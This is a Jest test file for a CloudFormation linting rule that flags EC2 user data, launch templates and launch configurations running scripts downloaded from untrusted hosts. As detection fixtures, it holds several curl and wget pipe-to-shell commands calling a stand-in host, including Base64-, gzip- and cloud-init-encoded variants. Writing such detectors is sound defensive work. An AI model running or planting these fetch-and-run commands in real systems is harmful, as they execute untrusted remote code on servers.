import { gzipSync } from 'node:zlib';
import { describe, expect, test } from '@jest/globals';
import { trustScriptRules } from '../../../src/rules/generic/trust-script';
import type { Trust } from '../../../src/templates/trust';
import { judge, one } from './judge';

const find = (script: unknown, trusts: Trust = {}) =>
  judge(
    trustScriptRules,
    'TrustScriptHostKnown',
    {
      ...one('AWS::EC2::Instance', { UserData: { 'Fn::Base64': script } }),
      Zone: { Type: 'AWS::Route53::HostedZone', Properties: { Name: 'example.com' } },
    },
    { trusts },
  );

describe('scripts that run what they download', () => {
  test.each([
    'curl -s https://get.stranger.example/i.sh | sudo bash',
    'wget -qO- https://get.stranger.example/i.sh | sh',
    'curl -fsSL https://get.stranger.example/i.sh | sudo -E bash -',
    'curl https://get.stranger.example/i.py|python3',
    'bash <(curl -s https://get.stranger.example/i.sh)',
    'sh -c "$(curl -fsSL https://get.stranger.example/i.sh)"',
  ])('%s', (command) => {
    expect(find(`#!/bin/bash\n${command}\n`)).toEqual(['UserData: runs a script of get.stranger.example']);
  });

  test('plain HTTP is told for every host', () => {
    expect(find('curl http://get.example.com/i.sh | bash')).toEqual([
      'UserData: runs a script of get.example.com over plain HTTP',
    ]);
  });

  test.each([
    'curl -s https://get.example.com/i.sh | bash',
    'curl -s https://bucket.s3.eu-central-1.amazonaws.com/i.sh | bash',
    'curl -s https://get.stranger.example/data.json | jq .version',
    'curl -s https://get.stranger.example/i.tgz -o i.tgz\nbash other.sh | tee log',
    'curl http://169.254.169.254/latest/meta-data | sh',
  ])('not %s', (command) => {
    expect(find(command)).toEqual([]);
  });

  test('not a host that the policy trusts', () => {
    expect(find('curl https://get.stranger.example/i | sh', { hosts: ['get.stranger.example'] })).toEqual([]);
  });

  test('a long line takes no long time', () => {
    expect(find('curl https://a.example '.repeat(5000))).toEqual([]);
  });
});

describe('a script in Base64 is read:', () => {
  const SCRIPT = '#!/bin/bash\ncurl -s https://get.stranger.example/i.sh | sudo bash\n';
  const encode = (text: string) => Buffer.from(text).toString('base64');
  const wrap = (text: string) => text.replace(/.{60}/g, '$&\n');
  const find = (type: string, properties: Readonly<Record<string, unknown>>) =>
    judge(trustScriptRules, 'TrustScriptHostKnown', one(type, properties));

  test.each([
    ['user data as EC2 takes it', encode(SCRIPT)],
    ['user data in lines', wrap(encode(SCRIPT))],
    ['compressed user data', gzipSync(SCRIPT).toString('base64')],
    ['a script that decodes another one', `#!/bin/bash\necho ${encode(SCRIPT)} | base64 -d | bash\n`],
    [
      'a part of a MIME archive',
      `Content-Type: text/x-shellscript\nContent-Transfer-Encoding: base64\n\n${wrap(encode(SCRIPT))}\n--b--`,
    ],
    [
      'a file of cloud-init, in user data in Base64',
      encode(`#cloud-config\nwrite_files:\n  - encoding: b64\n    content: ${encode(SCRIPT)}\n`),
    ],
  ])('%s', (_, userData) => {
    expect(find('AWS::EC2::Instance', { UserData: userData })).toEqual([
      'UserData: runs a script of get.stranger.example',
    ]);
  });

  test('of a launch template and of a launch configuration', () => {
    expect(find('AWS::EC2::LaunchTemplate', { LaunchTemplateData: { UserData: encode(SCRIPT) } })).toEqual([
      'LaunchTemplateData.UserData: runs a script of get.stranger.example',
    ]);
    expect(find('AWS::AutoScaling::LaunchConfiguration', { UserData: encode(SCRIPT) })).toHaveLength(1);
  });

  test.each([
    ['a script without a download', encode('#!/bin/bash\necho https://get.stranger.example/i.sh is documented\n')],
    ['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47, ...Array.from({ length: 40 }, (_, n) => n)]).toString('base64')],
    ['text that only looks like it', 'AAAABBBBCCCCDDDDEEEEFFFFGGGGHHHH'],
    ['a compressed text that is cut', gzipSync(SCRIPT).subarray(0, 30).toString('base64')],
  ])('and nothing is told for %s', (_, userData) => {
    expect(find('AWS::EC2::Instance', { UserData: userData })).toEqual([]);
  });

  test('in linear time', () => {
    const long = `base64 ${'A'.repeat(900_000)}`;
    expect(find('AWS::EC2::Instance', { UserData: { 'Fn::Base64': long } })).toEqual([]);
    expect(
      find('AWS::EC2::Instance', { UserData: { 'Fn::Base64': `base64 ${'A'.repeat(20)}\n`.repeat(9_000) } }),
    ).toEqual([]);
  });
});
